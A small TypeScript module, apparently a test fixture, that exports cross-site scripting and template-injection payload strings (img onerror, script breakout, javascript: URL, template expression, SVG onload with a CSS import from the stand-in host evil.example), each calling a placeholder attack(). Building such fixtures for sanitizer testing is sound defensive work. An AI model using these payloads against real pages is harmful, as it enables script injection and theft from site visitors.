/** Texts that run `attack()` if a page treats them as markup, script, an address or a template. */
export const PAYLOADS = {
  image: '<img src=x onerror=attack()>',
  script: '"></script><script>attack()</script>',
  address: 'javascript:attack()',
  template: '{{constructor.constructor("attack()")()}}${attack()}',
  vector: '<svg/onload=attack()><style>@import "//evil.example/a.css"</style>',
} as const
